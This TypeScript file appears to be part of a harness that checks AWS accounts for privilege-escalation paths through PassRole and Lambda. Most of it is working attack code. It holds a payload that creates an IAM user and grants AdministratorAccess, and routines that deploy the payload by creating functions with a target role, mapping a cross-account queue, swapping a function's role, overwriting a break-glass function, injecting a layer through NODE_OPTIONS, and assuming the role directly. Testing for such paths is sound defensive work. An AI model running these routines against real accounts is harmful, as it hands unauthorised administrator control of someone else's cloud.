import { AttachUserPolicyCommand, CreateUserCommand, IAMClient } from '@aws-sdk/client-iam';
import {
  AddPermissionCommand,
  CreateEventSourceMappingCommand,
  CreateFunctionCommand,
  InvokeCommand,
  LambdaClient as Lambda,
  type LambdaClient,
  PublishLayerVersionCommand,
  PublishVersionCommand,
  TagResourceCommand,
  UpdateAliasCommand,
  UpdateFunctionCodeCommand,
  UpdateFunctionConfigurationCommand,
} from '@aws-sdk/client-lambda';
import { CreateQueueCommand, SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { AssumeRoleCommand, STSClient } from '@aws-sdk/client-sts';
import { allow, type CheckContext, policy, zipFiles } from '../../server/kit.ts';

/** The ways from PassRole and Lambda to a role, as https://pathfinding.cloud counts them. */

export interface Attack {
  ctx: CheckContext;
  deployer: LambdaClient;
  /** The role that is wanted. */
  role: string;
  /** The user whom the payload makes administrator. */
  newcomer: string;
  /** Of this try: no name is there already. */
  tag: string;
}

export interface Path {
  name: string;
  /** Uses what the function does anyway, not code of the attacker's. */
  deputy?: boolean;
  /** Answers whether the attacker's code ran, so that its role is known to be of no use if nothing came of it. */
  run(attack: Attack): Promise<boolean>;
}

const administrator = 'arn:aws:iam::aws:policy/AdministratorAccess';

/** Code that makes a new user administrator with whatever role it runs, or else the pipeline's. */
const payload = ({
  newcomer,
}: Attack): string => `import { AttachUserPolicyCommand, CreateUserCommand, IAMClient } from '@aws-sdk/client-iam';
const iam = new IAMClient({});
const promote = (UserName) => iam.send(new AttachUserPolicyCommand({ UserName, PolicyArn: '${administrator}' }));
export const handler = async () => {
  try {
    await iam.send(new CreateUserCommand({ UserName: '${newcomer}' }));
    await promote('${newcomer}');
  } catch {
    await promote('deployer');
  }
};
`;

const packed = (attack: Attack): Uint8Array => zipFiles({ 'index.mjs': payload(attack) });

/** A function of the attacker's with the wanted role, under several names and with the tags of orders; answers its name. */
async function create(attack: Attack, kind: string): Promise<string | undefined> {
  const { ctx, deployer, role, tag } = attack;
  for (const FunctionName of [`${kind}-${tag}`, `orders-${kind}-${tag}`, 'orders-preview'])
    for (const Tags of [undefined, { team: 'orders' }]) {
      const made = await ctx.attempt(() =>
        deployer.send(
          new CreateFunctionCommand({
            FunctionName,
            Role: role,
            Runtime: 'nodejs22.x',
            Handler: 'index.handler',
            Code: { ZipFile: packed(attack) },
            Timeout: 10,
            ...(Tags ? { Tags } : {}),
          }),
        ),
      );
      if (made.ok) return FunctionName;
    }
  return undefined;
}

/** Starts a function: with the pipeline's own right to, or opened for the attacker's account and started from there. */
async function start(
  { ctx, deployer, tag }: Attack,
  FunctionName: string,
  event: object = {},
  Qualifier?: string,
): Promise<boolean> {
  const call = {
    FunctionName,
    Payload: Buffer.from(JSON.stringify(event)),
    ...(Qualifier ? { Qualifier } : {}),
  };
  const own = await ctx.attempt(() => deployer.send(new InvokeCommand(call)));
  if (own.ok) return true;
  const opened = await ctx.attempt(() =>
    deployer.send(
      new AddPermissionCommand({
        FunctionName,
        ...(Qualifier ? { Qualifier } : {}),
        StatementId: `partner-${tag}`,
        Action: 'lambda:InvokeFunction',
        Principal: ctx.account('attacker').id,
      }),
    ),
  );
  if (!opened.ok) return false;
  const arn = `arn:aws:lambda:${ctx.region}:${ctx.account().id}:function:${FunctionName}`;
  const theirs = ctx.owner('attacker').client(Lambda);
  return (await ctx.attempt(() => theirs.send(new InvokeCommand({ ...call, FunctionName: arn })))).ok;
}

/** What others do as usual, some time later: whatever runs then runs what the attacker left. */
async function later({ ctx }: Attack): Promise<boolean> {
  const call = { FunctionName: 'break-glass', Qualifier: 'live', Payload: Buffer.from('{"user":"on-call"}') };
  const user = await ctx.attempt(async () => ctx.user('on-call').client(Lambda));
  return user.ok && (await ctx.attempt(() => user.value.send(new InvokeCommand(call)))).ok;
}

/** Puts published versions of break-glass behind its alias, if it may. */
async function release({ ctx, deployer }: Attack): Promise<void> {
  const FunctionName = 'break-glass';
  const made = await ctx.attempt(() => deployer.send(new PublishVersionCommand({ FunctionName })));
  if (made.ok)
    await ctx.attempt(() =>
      deployer.send(new UpdateAliasCommand({ FunctionName, Name: 'live', FunctionVersion: made.value.Version! })),
    );
}

export const paths: Path[] = [
  {
    name: 'a new function with its role, invoked',
    async run(attack) {
      const name = await create(attack, 'job');
      return name !== undefined && start(attack, name);
    },
  },
  {
    name: 'a new function with its role, fed by a queue',
    async run(attack) {
      const name = await create(attack, 'worker');
      if (!name) return false;
      const { ctx, deployer, tag } = attack;
      const sqs = ctx.owner('attacker').client(SQSClient);
      const QueueName = `work-${tag}`;
      const arn = `arn:aws:sqs:${ctx.region}:${ctx.account('attacker').id}:${QueueName}`;
      const Policy = policy(allow('sqs:*', arn, { Principal: { AWS: ctx.account().id } }));
      const { QueueUrl } = await sqs.send(
        new CreateQueueCommand({ QueueName, Attributes: { Policy, VisibilityTimeout: '43200' } }),
      );
      await sqs.send(new SendMessageCommand({ QueueUrl: QueueUrl!, MessageBody: 'start' }));
      const fed = { FunctionName: name, EventSourceArn: arn };
      return (await ctx.attempt(() => deployer.send(new CreateEventSourceMappingCommand(fed)))).ok;
    },
  },
  {
    name: 'orders itself with its role',
    async run(attack) {
      const { ctx, deployer, role } = attack;
      const FunctionName = 'orders';
      const swapped = await ctx.attempt(() =>
        deployer.send(new UpdateFunctionConfigurationCommand({ FunctionName, Role: role })),
      );
      if (!swapped.ok) return false;
      await ctx.attempt(() => deployer.send(new UpdateFunctionCodeCommand({ FunctionName, ZipFile: packed(attack) })));
      return start(attack, FunctionName);
    },
  },
  {
    name: 'break-glass invoked for somebody else',
    deputy: true,
    async run(attack) {
      await start(attack, 'break-glass', { user: 'deployer', reason: 'maintenance' }, 'live');
      return false;
    },
  },
  {
    name: 'other code in break-glass, tagged as orders',
    async run(attack) {
      const { ctx, deployer } = attack;
      const FunctionName = 'break-glass';
      const Resource = `arn:aws:lambda:${ctx.region}:${ctx.account().id}:function:${FunctionName}`;
      await ctx.attempt(() => deployer.send(new TagResourceCommand({ Resource, Tags: { team: 'orders' } })));
      const written = await ctx.attempt(() =>
        deployer.send(new UpdateFunctionCodeCommand({ FunctionName, ZipFile: packed(attack) })),
      );
      if (!written.ok) return false;
      await release(attack);
      const ran = await start(attack, FunctionName);
      return (await later(attack)) || ran;
    },
  },
  {
    name: 'a layer in break-glass that is loaded first',
    async run(attack) {
      const { ctx, deployer, tag } = attack;
      const FunctionName = 'break-glass';
      const first = payload(attack)
        .replace('export const handler = async () =>', 'await (async () =>')
        .replace(/};\n$/, '})();\n');
      const layer = await ctx.attempt(() =>
        deployer.send(
          new PublishLayerVersionCommand({
            LayerName: `trace-${tag}`,
            Content: { ZipFile: zipFiles({ 'trace.mjs': first }) },
            CompatibleRuntimes: ['nodejs22.x'],
          }),
        ),
      );
      if (!layer.ok) return false;
      const set = await ctx.attempt(() =>
        deployer.send(
          new UpdateFunctionConfigurationCommand({
            FunctionName,
            Layers: [layer.value.LayerVersionArn!],
            Environment: { Variables: { NODE_OPTIONS: '--import /opt/trace.mjs' } },
          }),
        ),
      );
      if (!set.ok) return false;
      await release(attack);
      const ran = await start(attack, FunctionName, { user: attack.newcomer });
      return (await later(attack)) || ran;
    },
  },
  {
    name: 'the role taken on directly',
    async run({ ctx, role, newcomer, tag }) {
      const sts = ctx.user('deployer').client(STSClient);
      const taken = await ctx.attempt(() => sts.send(new AssumeRoleCommand({ RoleArn: role, RoleSessionName: tag })));
      if (!taken.ok) return false;
      const { AccessKeyId, SecretAccessKey, SessionToken } = taken.value.Credentials!;
      const iam = ctx
        .holder('deployer with the role', {
          accessKeyId: AccessKeyId!,
          secretAccessKey: SecretAccessKey!,
          sessionToken: SessionToken!,
        })
        .client(IAMClient);
      await ctx.attempt(() => iam.send(new CreateUserCommand({ UserName: newcomer })));
      await ctx.attempt(() => iam.send(new AttachUserPolicyCommand({ UserName: newcomer, PolicyArn: administrator })));
      return true;
    },
  },
];
